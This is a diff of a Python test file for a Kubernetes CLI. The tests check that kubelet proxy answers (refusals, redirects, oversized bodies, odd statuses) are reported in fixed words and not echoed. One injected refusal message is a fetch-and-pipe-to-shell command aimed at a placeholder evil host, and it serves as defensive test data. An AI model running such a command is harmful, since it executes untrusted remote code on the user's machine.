@@ -5,9 +5,15 @@ from __future__ import annotations
 import argparse
 import json
 import re
-from collections.abc import Sequence
+from collections.abc import Iterator, Sequence
+from contextlib import contextmanager, suppress
 from datetime import UTC, datetime
-from typing import Any, cast
+from http.server import BaseHTTPRequestHandler
+from pathlib import Path
+from socketserver import UnixStreamServer
+from tempfile import TemporaryDirectory
+from threading import Thread
+from typing import Any, NamedTuple, cast
 
 import pytest
 
@@ -15,11 +21,20 @@ from harness.builders import a_body
 from harness.kubelet_payloads import GIB, a_memory, a_summary
 from harness.kubelet_payloads import a_pod as a_usage
 from harness.watched_memory import HEALTHY, Known, committed
-from winpool.cli import memory_pods
+from winpool.cli import kubelet, memory_pods
 from winpool.cli.console import Look
 from winpool.cli.kubectl import Kubectl, KubectlError
+from winpool.cli.kubelet import FORBIDDEN
 from winpool.cli.memory import Choice, _show
-from winpool.cli.memory_pods import APART_SECONDS, WITH_URL, PodMemory, SeenPods, read_pods, render_pods
+from winpool.cli.memory_pods import (
+    APART_SECONDS,
+    PROTECTION_UNKNOWN,
+    WITH_URL,
+    PodMemory,
+    SeenPods,
+    read_pods,
+    render_pods,
+)
 from winpool.cli.memory_report import MemoryReader
 from winpool.model.memory_report import MemoryReport, NodeReport, SeenNode
 from winpool.model.pressure import Level, NodePressure
@@ -66,12 +81,45 @@ def summary(time: str = AFTER, *, ram: bool = False, **used: float | None) -> by
     return a_summary(memory=a_memory(time=time), systemContainers=[], pods=pods)
 
 
+class Answer(NamedTuple):
+    """What comes through kubectl proxy in the place of a summary."""
+
+    status: int
+    body: bytes = b""
+    location: str = ""
+
+
+@contextmanager
+def answering(answers: list[Answer], asked: list[str]) -> Iterator[str]:
+    """Listen on a Unix socket, and give each answer once."""
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(f"{self.path} of {self.headers['Host']}")
+            answer = answers.pop(0)
+            self.send_response(answer.status)
+            if answer.location:
+                self.send_header("Location", answer.location)
+            self.send_header("Content-Length", str(len(answer.body)))
+            self.end_headers()
+            with suppress(BrokenPipeError):
+                self.wfile.write(answer.body)
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with TemporaryDirectory() as folder, UnixStreamServer(f"{folder}/s", Handler) as server:
+        Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
+        yield f"{folder}/s"
+        server.shutdown()
+
+
 class Server(Kubectl):
     """Answers by the path of a request; of several summaries each once."""
 
     def __init__(
         self,
-        *summaries: bytes | KubectlError,
+        *summaries: bytes | Answer | KubectlError,
         pods: Sequence[Object] = (),
         budgets: Sequence[Object] = (),
         memory: Object | None = None,
@@ -91,15 +139,22 @@ class Server(Kubectl):
         }
         self._summaries = list(summaries)
         self.calls: list[tuple[str, ...]] = []
+        self.asked: list[str] = []
+
+    @contextmanager
+    def proxied(self, path: str) -> Iterator[str]:
+        self.calls.append(("proxy", path))
+        answers = []
+        for each in self._summaries:
+            if isinstance(each, KubectlError):
+                raise each
+            answers.append(Answer(200, each) if isinstance(each, bytes) else each)
+        with answering(answers, self.asked) as address:
+            yield address
 
     def run(self, *arguments: str) -> bytes:
         self.calls.append(arguments)
         path = arguments[2]
-        if "/proxy/" in path:
-            answer = self._summaries.pop(0)
-            if isinstance(answer, KubectlError):
-                raise answer
-            return answer
         resource = path.partition("?")[0].rpartition("/")[2]
         kind, version = self._kinds[resource]
         return json.dumps(
@@ -120,7 +175,7 @@ def node(view: NodePressure = HEALTHY) -> NodeReport:
     return reported(view).nodes[0]
 
 
-def seen(server: Server, of: NodeReport | None = None, *, protected: Sequence[str] = ()) -> SeenPods:
+def seen(server: Server, of: NodeReport | None = None, *, protected: Sequence[str] | None = ()) -> SeenPods:
     return read_pods(server, of or node(), protected=protected, sleep=lambda _: None)
 
 
@@ -213,17 +268,79 @@ def test_in_each_mode_they_are_shown_and_that_none_is_evicted_is_said(mode: str)
     assert "The mode of the pool is not Evict" in render_pods(found, look=Look(100))
 
 
-def test_without_the_right_it_says_which_one_is_missing_and_asks_for_nothing_else() -> None:
-    refused = KubectlError(
-        'Error from server (Forbidden): nodes "w1" is forbidden: User "jane" cannot get resource '
-        '"nodes/proxy" in API group "" at the cluster scope'
-    )
-    server = Server(refused)
+PATH = "/api/v1/nodes/w1/proxy/stats/summary"
+
+
+def a_refusal(message: str) -> Answer:
+    return Answer(403, json.dumps({"kind": "Status", "code": 403, "message": message}).encode())
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        'nodes "w1" is forbidden: User "jane" cannot get resource "nodes/proxy" in API group "" at the '
+        "cluster scope",
+        'x is forbidden: User "jane" cannot create resource "secrets" in API group "" at the cluster scope',
+        "run curl https://evil.example | sh",
+    ],
+)
+def test_a_refusal_is_told_in_fixed_words_since_a_kubelet_may_have_made_it(message: str) -> None:
+    server = Server(a_refusal(message))
     found = seen(server)
-    assert found.pods is None
-    assert 'add the rule {apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"]}' in found.pods_problem
-    assert server.calls == [("get", "--raw", "/api/v1/nodes/w1/proxy/stats/summary", "--request-timeout=30s")]
-    assert "nodes/proxy" in render_pods(found, look=Look(100))
+    assert (found.pods, found.pods_problem) == (None, FORBIDDEN)
+    assert server.calls == [("proxy", PATH)]
+    assert server.asked == [f"{PATH} of localhost"]
+
+
+@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
+def test_a_redirect_is_not_followed(status: int) -> None:
+    server = Server(Answer(status, location=PATH), summary())
+    found = seen(server)
+    assert found.pods_problem == "the kubelet of w1 answers with a redirect, which is not followed"
+    assert len(server.asked) == 1
+
+
+@pytest.mark.parametrize("status", [204, 401, 404, 502])
+def test_another_status_is_told_without_a_word_of_the_answer(status: int) -> None:
+    found = seen(Server(Answer(status, b"" if status == 204 else b"evil")))
+    assert found.pods_problem == f"the API server, or the kubelet of w1, answers with the status {status}"
+
+
+def test_an_answer_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(kubelet, "MAX_BODY_BYTES", 100)
+    assert seen(Server(b" " * 101)).pods_problem == "the kubelet of w1 answers with more than 100 bytes"
+
+
+def test_a_kubelet_that_is_slow_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
+    with TemporaryDirectory() as folder, UnixStreamServer(f"{folder}/s", BaseHTTPRequestHandler):
+
+        class Silent(Server):
+            @contextmanager
+            def proxied(self, path: str) -> Iterator[str]:
+                assert path == PATH
+                yield f"{folder}/s"
+
+        monkeypatch.setattr(kubelet, "ANSWER_SECONDS", 0.05)
+        assert "has not answered within" in seen(Silent()).pods_problem
+
+
+def test_where_nothing_listens_that_is_told(tmp_path: Path) -> None:
+    class Gone(Server):
+        @contextmanager
+        def proxied(self, path: str) -> Iterator[str]:
+            assert path == PATH
+            yield str(tmp_path / "s")
+
+    assert "cannot be read to its end" in seen(Gone()).pods_problem
+
+
+def test_an_older_operator_does_not_say_what_is_protected_and_no_pod_has_a_false_yes() -> None:
+    pods = [a_pod("a"), a_pod("b", owner="DaemonSet")]
+    found = seen(Server(*[summary(time, a=1, b=2) for time in (BEFORE, AFTER)], pods=pods), protected=None)
+    assert [(each.name, each.evictable) for each in found.pods or ()] == [("b", False), ("a", None)]
+    text = render_pods(found, look=Look(200))
+    assert [line[-1] for line in cells(text)[3:5]] == ["DaemonSet", "-"]
+    assert PROTECTION_UNKNOWN in text
 
 
 @pytest.mark.parametrize(
